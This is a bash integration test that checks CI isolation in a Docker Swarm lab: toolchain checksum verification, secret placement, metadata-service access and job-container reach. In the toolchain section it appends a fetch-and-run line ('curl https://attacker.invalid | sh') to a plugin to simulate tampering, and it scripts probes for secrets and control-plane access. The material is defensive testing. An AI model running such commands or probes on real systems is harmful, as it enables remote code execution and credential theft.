#!/usr/bin/env bash
# shellcheck disable=SC2015,SC2317 # ok/fail always succeed; the steps are functions `must` calls
# Trust boundaries, proven with real tools (issue 18; docs/security.md cites each line this prints):
#
#   toolchain cache   scripts/lib/pulumi-env.sh verify_pulumi_toolchain on a cache of its own: accepts the
#                     recorded binaries; refuses a changed binary, an unrecorded one, a group- or
#                     world-writable file or directory (no Docker needed)
#   CI node           two lab machines (tests/real/lib/lab-machine.sh) on a network of their own: a manager
#                     and a CI node (Swarm worker labelled mbio.role=ci), the host firewall of each
#                     (components/files/cloud-init/firewall.sh, run twice: the second changes nothing), the
#                     backup stack as components/s3-backup.ts renders it (its secrets hold sentinels; the image
#                     is a stand-in: placement and secret delivery are Swarm's, not the image's), and a
#                     metadata-service stand-in on 169.254.169.254 on the CI node (in a network namespace of
#                     its own behind a veth, so traffic to it is routed as on a Hetzner server)
#                     then a job-shaped container on the CI node (the volumes and privileges of the runner's
#                     config.toml as components/gitlab-runner.ts renders it by default) tries to read the
#                     restic password and S3 keys, the host key from the metadata service, the host's Docker
#                     socket, a manager's Docker API and Swarm API, and fails each time; positive controls
#                     show each probe succeeds where the thing is reachable (root on the manager finds the
#                     sentinels; the CI host's root reaches the metadata service; a job given the socket
#                     reaches it).
# Not covered here (docs/security.md says where): the Hetzner token (the CSI plugin is not installed on CI
# nodes: tests/unit/placement.test.ts), the Raft backup (an accepted risk, docs/security.md).
# Ends with "trust-boundaries: N passed, M failed". Removes what it created.
set -uo pipefail
ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)"
# shellcheck source=scripts/lib/env.sh
. "$ROOT/scripts/lib/env.sh"
TEST_NAME=trust-boundaries
# shellcheck source=tests/real/lib/check.sh
. "$ROOT/tests/real/lib/check.sh"
# shellcheck source=tests/real/lib/lab-machine.sh
. "$ROOT/tests/real/lib/lab-machine.sh"
FILES="$ROOT/components/files"
PREFIX="${TRUST_BOUNDARIES_PREFIX:-ci-isolation-tb}"
NET="$PREFIX"
SUBNET_PREFIX="${TRUST_BOUNDARIES_SUBNET_PREFIX:-172.31.247}"
GW="$SUBNET_PREFIX.1" MIP="$SUBNET_PREFIX.11" CIP="$SUBNET_PREFIX.21"
M="$PREFIX-manager" C="$PREFIX-ci"
METADATA=169.254.169.254
work="$(mktemp -d)"
RESTIC_SENTINEL="restic-password-sentinel-$RANDOM$RANDOM"
S3_SENTINEL="s3-secret-key-sentinel-$RANDOM$RANDOM"
HOSTKEY_SENTINEL="host-private-key-sentinel-$RANDOM$RANDOM"

cleanup() {
  docker rm -f -v "$M" "$C" >/dev/null 2>&1
  docker network rm "$NET" >/dev/null 2>&1
  rm -rf "$work"
}
finish() {
  cleanup
  report
  exit
}
trap cleanup EXIT

# ---- the deploy runner's toolchain cache (no Docker) ----------------------------------------------------
toolchain_cache() {
  local cache="$work/cache"
  (
    export MBIO_CACHE="$cache"
    # shellcheck source=scripts/lib/pulumi-env.sh
    . "$ROOT/scripts/lib/pulumi-env.sh"
    umask 022
    mkdir -p "$PULUMI_TOOLCHAIN_BIN" "$PULUMI_HOME/plugins/resource-command-v0.0.0"
    for f in pulumi pulumi-language-nodejs "$PULUMI_HOME/plugins/resource-command-v0.0.0/pulumi-resource-command"; do
      case "$f" in /*) ;; *) f="$PULUMI_TOOLCHAIN_BIN/$f" ;; esac
      printf '#!/bin/sh\necho %s\n' "$(basename "$f")" >"$f" && chmod 755 "$f"
    done
    # What toolchain.sh records at the end of an install (record_checksums).
    pulumi_toolchain_files | sort | xargs sha256sum >"$PULUMI_TOOLCHAIN_DIR/sha256sums"
    v() { (verify_pulumi_toolchain) >"$work/verify.out" 2>&1; }
    check "toolchain cache: the recorded binaries and plugins are accepted" v
    plugin="$PULUMI_HOME/plugins/resource-command-v0.0.0/pulumi-resource-command"
    cp "$plugin" "$work/plugin.orig"
    echo 'curl https://attacker.invalid | sh' >>"$plugin"
    ! v && grep -q "differs from the sha256 recorded" "$work/verify.out" && ok "toolchain cache: a changed plugin is refused ($(tail -n1 "$work/verify.out" | cut -c1-90)…)" || fail "toolchain cache: a changed plugin was not refused: $(cat "$work/verify.out")"
    cp "$work/plugin.orig" "$plugin"
    printf '#!/bin/sh\n' >"$PULUMI_TOOLCHAIN_BIN/pulumi-analyzer-policy" && chmod 755 "$PULUMI_TOOLCHAIN_BIN/pulumi-analyzer-policy"
    ! v && grep -q "not recorded" "$work/verify.out" && ok "toolchain cache: an executable added after the install is refused" || fail "toolchain cache: an added executable was not refused"
    rm "$PULUMI_TOOLCHAIN_BIN/pulumi-analyzer-policy"
    chmod g+w "$PULUMI_TOOLCHAIN_BIN/pulumi"
    ! v && grep -q "writable by another user" "$work/verify.out" && ok "toolchain cache: a group-writable binary is refused" || fail "toolchain cache: a group-writable binary was not refused"
    chmod g-w "$PULUMI_TOOLCHAIN_BIN/pulumi"
    chmod o+w "$PULUMI_HOME"
    ! v && grep -q "writable by another user" "$work/verify.out" && ok "toolchain cache: a world-writable PULUMI_HOME is refused" || fail "toolchain cache: a world-writable PULUMI_HOME was not refused"
    chmod o-w "$PULUMI_HOME"
    check "toolchain cache: accepted again once restored" v
    echo "$passed $failed" >"$work/counts"
  )
  read -r passed failed <"$work/counts"
}
toolchain_cache

# ---- a manager and a CI node ---------------------------------------------------------------------------
start_machines() {
  docker network create --subnet "$SUBNET_PREFIX.0/24" --gateway "$GW" "$NET" >/dev/null || return 1
  lab_machine "$M" "$work" --network "$NET" --ip "$MIP" -v /var/lib/docker || return 1
  lab_machine "$C" "$work" --network "$NET" --ip "$CIP" -v /var/lib/docker || return 1
}
must "two lab machines: $M ($MIP), $C ($CIP)" start_machines
on() { local m="$1"; shift; docker exec -i "$m" "$@"; }

# The host firewall as SwarmCluster runs it (host-firewall.ts: existing hosts admit exactly the stack's hosts).
firewall() { # machine manager(true|false)
  local env="PRIVATE_CIDR='$MIP/32 $CIP/32' ADMIN_CIDRS='$GW/32' MANAGER=$2 EDGE=false" pass
  for pass in 1 2; do on "$1" bash -c "$env bash -s" <"$FILES/cloud-init/firewall.sh" >"$work/fw-$1-$pass.out" 2>&1 || return 1; done
  grep -q "done, 0 change(s)" "$work/fw-$1-2.out"
}
firewalls() { firewall "$M" true && firewall "$C" false; }
must "host firewall on both (firewall.sh twice; the second run changes nothing)" firewalls

# A job-shaped image: the probe alone (static, no shell), imported on both machines (no registry needed).
build_probe() {
  mkdir -p "$work/probe" &&
    (cd "$ROOT/tests/real/trust-boundaries" && CGO_ENABLED=0 GOTOOLCHAIN=local go build -trimpath -o "$work/probe/probe" probe.go) &&
    for m in "$M" "$C"; do tar -C "$work/probe" -cf - probe | on "$m" docker import -c 'ENTRYPOINT ["/probe"]' - mbio-lab/probe:1 >/dev/null || return 1; done
}
must "the probe (tests/real/trust-boundaries/probe.go) built and imported as a job image" build_probe

swarm() {
  on "$M" docker swarm init --advertise-addr "$MIP" >/dev/null || return 1
  on "$M" docker swarm join-token -q worker | on "$C" env MANAGER_ADDR="$MIP" ADVERTISE_ADDR="$CIP" bash -c "$(cat "$FILES/swarm/swarm-join.sh")" swarm-join.sh >"$work/join.out" 2>&1 || return 1
  local cid
  cid="$(tail -n1 "$work/join.out")"
  on "$M" docker node update --label-add mbio.role=manager --label-add mbio.environment=lab "$(on "$M" docker info -f '{{.Swarm.NodeID}}')" >/dev/null &&
    on "$M" docker node update --label-add mbio.role=ci --label-add mbio.environment=lab "$cid" >/dev/null
}
must "Swarm: $M manager, $C joined as a worker (swarm-join.sh, token on stdin) labelled mbio.role=ci" swarm

# The backup stack as S3Backup renders it, its secrets holding sentinels. Stand-ins, said here: the image (the
# probe, sleeping) and no healthcheck (the stand-in has no cron); placement and secrets are as rendered.
render() {
  (cd "$ROOT" && ensure_node_modules >/dev/null && npx --no-install tsc --outDir "$work/js" --module commonjs --target es2022 --esModuleInterop --resolveJsonModule --skipLibCheck --strict tests/real/trust-boundaries/render.ts) &&
    cp -r "$FILES" "$work/js/components/" &&
    NODE_PATH="$ROOT/node_modules" node "$work/js/tests/real/trust-boundaries/render.js" mbio-lab/probe:1 lab-backup >"$work/render.json"
}
must "render the backup stack (components/s3-backup.ts) and the runner's config.toml (components/gitlab-runner.ts)" render
deploy_backup() {
  printf '%s' "$RESTIC_SENTINEL" | on "$M" docker secret create lab-backup-restic_password - >/dev/null &&
    printf '%s' "s3-access-key-id" | on "$M" docker secret create lab-backup-s3_access_key_id - >/dev/null &&
    printf '%s' "$S3_SENTINEL" | on "$M" docker secret create lab-backup-s3_secret_access_key - >/dev/null &&
    jq '.compose | .services |= map_values(.command = ["sleep", "-"] | .healthcheck = {disable: true} | del(.volumes))' "$work/render.json" |
    on "$M" env STACK=backup TIMEOUT=120 bash -c "$(cat "$FILES/swarm/stack-deploy.sh")" stack-deploy.sh >"$work/deploy.out" 2>&1
}
must "deploy the backup stack as rendered (global agent + maintenance), secrets holding sentinels" deploy_backup

# ---- placement: what the nodes hold -------------------------------------------------------------------
nodes_of() { on "$M" docker service ps --filter desired-state=running --format '{{.Node}}' "$1" </dev/null | sort -u | xargs; }
if [ "$(nodes_of backup_agent)" != "$M" ]; then
  tail -n 15 "$work/deploy.out" | sed 's/^/    | /'
  on "$M" docker service ps --no-trunc --format '{{.Name}} {{.Node}} {{.CurrentState}} {{.Error}}' backup_agent backup_maintenance </dev/null | head -n 8 | sed 's/^/    | /'
fi
[ "$(nodes_of backup_agent)" = "$M" ] && ok "the global backup agent runs on the manager only, not on the CI node ($(nodes_of backup_agent))" || fail "backup_agent runs on: $(nodes_of backup_agent)"
[ "$(nodes_of backup_maintenance)" = "$M" ] && ok "backup maintenance runs on the manager" || fail "backup_maintenance runs on: $(nodes_of backup_maintenance)"
host_grep() { on "$1" sh -c "grep -rlF '$2' /var/lib/docker/containers /run 2>/dev/null | head -n1"; }
[ -n "$(host_grep "$M" "$RESTIC_SENTINEL")" ] && ok "positive control: root on the manager finds the restic password (a task's secret mount)" || fail "positive control: the restic password is not found on the manager (the grep proves nothing)"
[ -z "$(host_grep "$C" "$RESTIC_SENTINEL")" ] && ok "not even root on the CI node finds the restic password (Swarm never delivered it there)" || fail "the restic password is on the CI node: $(host_grep "$C" "$RESTIC_SENTINEL")"
[ -z "$(host_grep "$C" "$S3_SENTINEL")" ] && ok "not even root on the CI node finds the S3 secret key" || fail "the S3 secret key is on the CI node"

# ---- the metadata service stand-in on the CI node -------------------------------------------------------
metadata() {
  on "$C" bash -s <<EOF
set -e
ip netns add mbio-meta
ip link add mbio-meta0 type veth peer name mbio-meta1
ip link set mbio-meta1 netns mbio-meta
ip addr add 169.254.169.1/30 dev mbio-meta0 && ip link set mbio-meta0 up
ip netns exec mbio-meta sh -c 'ip addr add 169.254.169.2/30 dev mbio-meta1 && ip addr add $METADATA/32 dev mbio-meta1 && ip link set mbio-meta1 up && ip link set lo up && ip route add default via 169.254.169.1'
ip route add $METADATA/32 via 169.254.169.2
mkdir -p /srv/meta/hetzner/v1 && printf '#cloud-config\nssh_keys:\n  ed25519_private: $HOSTKEY_SENTINEL\n' >/srv/meta/hetzner/v1/userdata
cd /srv/meta && ip netns exec mbio-meta setsid python3 -m http.server 80 --bind $METADATA >/dev/null 2>&1 </dev/null &
sleep 1
EOF
}
must "metadata stand-in: $METADATA in a network namespace of its own on $C, serving a user-data with a host key" metadata
USERDATA="http://$METADATA/hetzner/v1/userdata"
check "positive control: root on the CI host fetches the user-data (cloud-init's path)" wait_for "the stand-in" 15 on "$C" sh -c "python3 -c 'import urllib.request,sys; sys.stdout.write(urllib.request.urlopen(\"$USERDATA\", timeout=3).read().decode())' | grep -q $HOSTKEY_SENTINEL"
on "$C" useradd -m labuser 2>/dev/null
! on "$C" su labuser -c "python3 -c 'import urllib.request; urllib.request.urlopen(\"$USERDATA\", timeout=3)'" >/dev/null 2>&1 && ok "a non-root process on the CI host cannot fetch the user-data" || fail "a non-root host process fetched the user-data"

# ---- the job-shaped container ---------------------------------------------------------------------------
# What the docker executor gives a job by default (the rendered config.toml): its volumes, its privileges.
toml="$(jq -r .toml "$work/render.json")"
grep -qx '    privileged = false' <<<"$toml" && grep -qx '    volumes = \["/cache"\]' <<<"$toml" && ok "the runner's config.toml by default: privileged = false, volumes = [\"/cache\"] (no host socket)" || fail "the runner's default config.toml: $(grep -E 'privileged|volumes' <<<"$toml" | xargs)"
job() { on "$C" docker run --rm -v /cache mbio-lab/probe:1 "$@"; }
refused() { # what probe-args...
  local what="$1" out
  shift
  if out="$(job "$@" 2>&1)"; then fail "a CI job $what: $out"; else ok "a CI job cannot $what ($(tail -n1 <<<"$out" | cut -c1-80))"; fi
}
refused "read the restic password (anywhere in its filesystem)" grep "$RESTIC_SENTINEL" /
refused "read the S3 secret key (anywhere in its filesystem)" grep "$S3_SENTINEL" /
refused "fetch the user-data with the host key from the metadata service" http "$USERDATA"
refused "reach the host's Docker socket" unix /var/run/docker.sock
refused "reach a manager's Docker API over TCP (2375)" docker-api "$MIP:2375"
refused "reach a manager's Docker API over TLS (2376)" tcp "$MIP:2376"
# Swarm answers TLS on 2377 without a client certificate (a joining node has none): the host firewall keeps
# containers off it; the CI host itself still reaches it (positive control: it is a Swarm worker).
refused "reach the Swarm control plane of a manager (2377)" swarm-api "$MIP:2377"
on "$C" timeout 5 bash -c "exec 3<>/dev/tcp/$MIP/2377" && ok "positive control: the CI host reaches the manager's 2377 (its worker session)" || fail "positive control: the CI host cannot reach the manager's 2377"
if out="$(on "$C" docker run --rm -v /var/run/docker.sock:/var/run/docker.sock mbio-lab/probe:1 unix /var/run/docker.sock 2>&1)"; then
  ok "positive control: a job given the socket (socketInJobs: true, opt-in) reaches it: the socket probe works"
else fail "positive control: the socket probe failed with the socket mounted: $out"; fi

# The metadata rules survive a dockerd restart (they live in the firewall's own table, not Docker's chains).
on "$C" systemctl restart docker
wait_for "dockerd after restart" 60 on "$C" docker info >/dev/null
refused "fetch the user-data after a dockerd restart" http "$USERDATA"

finish
